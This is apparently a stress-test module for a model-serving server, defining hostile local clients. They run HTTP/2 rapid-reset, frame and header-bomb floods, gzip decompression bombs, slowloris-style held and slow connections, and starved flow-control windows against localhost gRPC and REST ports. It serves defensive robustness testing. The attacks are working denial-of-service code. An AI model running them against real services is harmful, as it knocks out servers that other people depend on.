"""Clients that mean harm: `python -m tests.torture.attackers NAME GRPC_PORT REST_PORT
MODEL BASE_PATH...`, with the models that are served.

Each goes on until it is killed. They run in a process of their own, and from an address of their
own (127.0.0.2), so that only the server can make the other clients wait.
"""

import gzip
import itertools
import socket
import sys
import threading
import time
from collections import deque
from contextlib import suppress

import grpc

from tfserve_kit import protos

HERE, MIB = "127.0.0.2", 1 << 20
GRPC_PORT, REST_PORT = map(int, sys.argv[2:4]) if __name__ == "__main__" else (0, 0)
ROW = b'{"instances": [1]}'
SLOW = b'{"signature_name": "slow", "instances": [1]}'
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"


def connected(port):
    return socket.create_connection(("127.0.0.1", port), 10, source_address=(HERE, 0))


def relayed():
    """Return a port that leads to the gRPC port, from the attackers' address."""
    listener = socket.create_server(("127.0.0.1", 0))

    def copy(source, target):
        with suppress(OSError):
            while data := source.recv(1 << 16):
                target.sendall(data)
        for each in (source, target):
            with suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)

    def accept():
        while True:
            client, _ = listener.accept()
            server = connected(GRPC_PORT)
            threading.Thread(target=copy, args=(client, server), daemon=True).start()
            threading.Thread(target=copy, args=(server, client), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    return listener.getsockname()[1]


def channel(compression=None):
    options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
    return grpc.insecure_channel(f"127.0.0.1:{relayed()}", options, compression)


def method(name, opened):
    return opened.unary_unary(protos.METHODS[name].path)


def post(model, body, headers=""):
    head = (
        f"POST /v1/models/{model}:predict HTTP/1.1\r\nContent-Length: {len(body)}\r\n{headers}\r\n"
    )
    return head.encode() + body


def frame(kind, flags, stream, payload=b""):
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags])
    return head + stream.to_bytes(4, "big") + payload


def begun_calls(streams, *, encoding=b"identity"):
    """Return the first frames of a connection with calls that have begun: headers, no message."""
    return PREFACE + frame(4, 1, 0) + b"".join(begun(number, encoding) for number in streams)


def begun(stream, encoding=b"identity"):
    """Return the headers of a gRPC call."""

    def literal(name, value):
        return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value

    headers = b"\x83\x86" + b"".join(
        literal(name, value)
        for name, value in (
            (b":path", protos.METHODS["Predict"].path.encode()),
            (b":authority", b"a"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
            (b"grpc-encoding", encoding),
        )
    )
    return frame(1, 4, stream, headers)


def repeat(attack, threads=4):
    """Do it again and again, in several threads."""

    def work():
        while True:
            with suppress(OSError, grpc.RpcError):
                attack()

    for _ in range(threads):
        threading.Thread(target=work, daemon=True).start()
    threading.Event().wait()


def ask(request):
    """Send a REST request and wait for its answer."""
    with connected(REST_PORT) as client:
        client.sendall(request)
        return client.recv(1000)


def silent_streams():
    clients = deque(maxlen=10)
    while True:
        clients.append(connected(GRPC_PORT))
        clients[-1].sendall(begun_calls(range(1, 201, 2)))
        time.sleep(0.5)


def held_messages():
    clients = []
    for _ in range(20):
        client = connected(GRPC_PORT)
        piece = b"\0" + (2**31 - 1).to_bytes(4, "big") + bytes(16_000)
        client.sendall(begun_calls([1]) + frame(0, 0, 1, piece))
        clients.append(client)
    held = connected(REST_PORT)
    held.sendall(b"POST /v1/models/batchy:predict HTTP/1.1\r\nContent-Length: 2147483647\r\n\r\n")
    while True:
        held.sendall(bytes(MIB))
        time.sleep(0.05)


def cancelled_reloads():
    with channel() as opened:
        reload = method("HandleReloadConfigRequest", opened)
        for number in itertools.count():
            request = protos.message_class("ReloadConfigRequest")()
            config = request.config.model_config_list.config
            for name, path in zip(sys.argv[4::2], sys.argv[5::2], strict=True):
                config.add(name=name, base_path=path, model_platform="tensorflow")
            config.add(name=f"later{number % 8}", base_path="/nowhere", model_platform="tensorflow")
            call = reload.future(request.SerializeToString())
            time.sleep(0.02)
            call.cancel()


def multi_inference():
    request = protos.message_class("MultiInferenceRequest")()
    for _ in range(1000):
        task = request.tasks.add(method_name="tensorflow/serving/regress")
        task.model_spec.name, task.model_spec.signature_name = "legacy", "regress"
    example = protos.Example()
    example.features.feature["x"].float_list.value.append(1.0)
    for _ in range(1000):
        request.input.example_list.examples.add().CopyFrom(example)
    sent = request.SerializeToString()
    with channel() as opened:
        repeat(lambda: method("MultiInference", opened)(sent, timeout=5))


def odd_shapes():
    request = protos.PredictRequest(model_spec={"name": "strings"})
    tensor = request.inputs["s"]
    tensor.dtype = 7
    tensor.string_val.append(b"a")
    for _ in range(64):
        tensor.tensor_shape.dim.add(size=1)
    sent = request.SerializeToString()
    deep = post("strings", b'{"inputs":' + b"[" * 40 + b'"a"' + b"]" * 40 + b"}")
    with channel() as opened:

        def attack():
            with suppress(grpc.RpcError):
                method("Predict", opened)(sent, timeout=5)
            ask(deep)

        repeat(attack)


def surrogates():
    body = b'{"signature_name":"\\ud800","x":"\xff","instances":[1]}' + b" " * MIB
    repeat(lambda: ask(post("batchy", body)))


def gzip_bombs():
    bomb = gzip.compress(bytes(90_000_000), 6)
    repeat(lambda: ask(post("batchy", bomb, "Content-Encoding: gzip\r\n")))


def grpc_gzip_bombs():
    packed = gzip.compress(bytes(55_000_000), 9)  # as much as may be sent without being asked
    message = b"\1" + len(packed).to_bytes(4, "big") + packed
    pieces = [message[at : at + 16384] for at in range(0, len(message), 16384)]
    data = [frame(0, int(piece is pieces[-1]), 1, piece) for piece in pieces]

    def attack():
        with connected(GRPC_PORT) as client:
            client.settimeout(2)
            client.sendall(begun_calls([1], encoding=b"gzip") + b"".join(data))
            while client.recv(1000):
                pass

    repeat(attack)


def slow_readers():
    rows = b'{"instances": [' + b",".join([b"1.0"] * 50_000) + b"]}"  # the answer is larger still

    def attack():
        with connected(REST_PORT) as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            client.settimeout(1)
            with suppress(TimeoutError):
                client.sendall(post("half_plus_two", rows) * 100)
            while client.recv(10):
                time.sleep(0.1)

    repeat(attack, threads=5)


def slow_models():
    request = protos.PredictRequest(model_spec={"name": "batchy", "signature_name": "slow"})
    tensor = request.inputs["w"]
    tensor.dtype = 1
    tensor.tensor_shape.dim.add(size=1)
    tensor.float_val.append(1)
    sent = request.SerializeToString()
    with channel() as opened:

        def attack():
            calls = [method("Predict", opened).future(sent, timeout=20) for _ in range(20)]
            for call in calls:
                with suppress(grpc.RpcError):
                    call.result()

        threading.Thread(target=repeat, args=(attack, 2), daemon=True).start()
        repeat(lambda: ask(post("batchy", SLOW)), threads=40)


def huge_json():
    rows = b'{"instances": [' + b",".join([b'{"a": [1, "x", null]}'] * 200_000) + b"]}"
    repeat(lambda: ask(post("batchy", rows)), threads=2)


def flood(begin, *frames):
    """Send frames for ever, reading nothing but the end; again on a new connection."""

    def attack():
        with connected(GRPC_PORT) as client:
            client.sendall(begin)
            for some in itertools.cycle(frames):
                client.sendall(some)

    repeat(attack, threads=1)


def together(*attacks):
    for attack in attacks:
        threading.Thread(target=attack, daemon=True).start()
    threading.Event().wait()


def rapid_resets():
    def attack():
        with connected(GRPC_PORT) as client:
            client.sendall(begun_calls([]))
            for first in itertools.count(1, 200):
                calls = range(first, first + 200, 2)
                client.sendall(
                    b"".join(begun(each) + frame(3, 0, each, bytes(4)) for each in calls)
                )

    repeat(attack)


def frame_floods():
    """Frames that cost a server more than whoever sends them."""
    opened, many = begun_calls([1]), 2000
    floods = [
        frame(4, 0, 0) * many,  # SETTINGS, each to be acknowledged
        frame(4, 0, 0, b"\0\4\0\0\0\1\0\4\x7f\xff\xff\xff" * 16) * 100,
        frame(6, 0, 0, b"12345678") * many,  # PING
        frame(0, 0, 1) * many,  # DATA of nothing
        frame(0, 8, 1, b"\xff" + bytes(255)) * 200,  # DATA of padding
        frame(2, 0, 3, b"\0\0\0\5\xff") * many,  # PRIORITY, of streams that are not there
        frame(8, 0, 0, b"\0\0\0\1") * many,  # WINDOW_UPDATE by a byte
        frame(0xBE, 0xFF, 7, b"x") * many,  # what nobody knows
    ]
    headers = frame(1, 0, 3, b"\x82")  # END_HEADERS never comes
    together(
        *(lambda some=some: flood(opened, some) for some in floods),
        lambda: flood(opened + headers, frame(9, 0, 3) * many),
        lambda: flood(opened, frame(9, 4, 1) * many),
    )


def header_bombs():
    """Headers that are small on the way, and large once they are read."""
    entry = b"\x40\x01a" + b"\x7f\xe1\x1e" + b"x" * 4000  # remembered ...
    repeated = b"\x83\x86\x84" + entry + b"\xbe" * 12_000  # ... and repeated, a byte each
    huffman = b"\x83\x86\x84" + (b"\x00\x01a" + b"\xff\x81\x1d" + b"\0" * 3840) * 3  # of `0`s
    resized = b"\x20\x3f\xe1\x1f" + b"\x83\x86\x84" + entry

    def streams(block):
        pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]

        def attack():
            with connected(GRPC_PORT) as client:
                client.sendall(begun_calls([]))
                for number in itertools.count(1, 2):
                    last = len(pieces) - 1
                    client.sendall(
                        b"".join(
                            frame(9 if at else 1, 4 if at == last else 0, number, piece)
                            for at, piece in enumerate(pieces)
                        )
                    )

        return lambda: repeat(attack, threads=1)

    together(*map(streams, (repeated, huffman, resized)))


def starved_windows():
    """Answers that are asked for and not taken, messages that come by the byte."""
    rows = protos.PredictRequest(model_spec={"name": "half_plus_two"})
    tensor = rows.inputs["x"]
    tensor.dtype, tensor.tensor_content = 1, bytes(4 * 10_000)
    tensor.tensor_shape.dim.add(size=10_000)
    content = rows.SerializeToString()
    message = b"\0" + len(content).to_bytes(4, "big") + content
    pieces = [message[at : at + 16_000] for at in range(0, len(message), 16_000)]
    no_window = frame(4, 0, 0, b"\0\4\0\0\0\0")

    def call(number):
        last = len(pieces) - 1
        data = (frame(0, int(at == last), number, piece) for at, piece in enumerate(pieces))
        return begun(number) + b"".join(data)

    def never_open():
        clients = deque(maxlen=20)
        while True:
            clients.append(connected(GRPC_PORT))
            clients[-1].sendall(begun_calls([]) + no_window + b"".join(map(call, range(1, 40, 2))))
            time.sleep(0.2)

    def by_the_byte():
        with connected(GRPC_PORT) as client:
            client.sendall(begun_calls([]) + no_window + b"".join(map(call, range(1, 40, 2))))
            for number in itertools.cycle(range(1, 40, 2)):
                client.sendall(frame(8, 0, number, b"\0\0\0\1"))
                time.sleep(0.001)

    def written_by_the_byte():
        with connected(GRPC_PORT) as client:
            client.sendall(begun_calls(range(1, 200, 2)))
            for at in itertools.count():
                byte = message[at % len(message) :][:1]
                client.sendall(b"".join(frame(0, 0, number, byte) for number in range(1, 200, 2)))
                time.sleep(0.01)

    together(
        *(
            lambda each=each: repeat(each, 1)
            for each in (never_open, by_the_byte, written_by_the_byte)
        )
    )


ATTACKS = {
    attack.__name__: attack
    for attack in (
        silent_streams,
        held_messages,
        cancelled_reloads,
        multi_inference,
        odd_shapes,
        surrogates,
        gzip_bombs,
        grpc_gzip_bombs,
        slow_readers,
        slow_models,
        huge_json,
        rapid_resets,
        frame_floods,
        header_bombs,
        starved_windows,
    )
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]]()
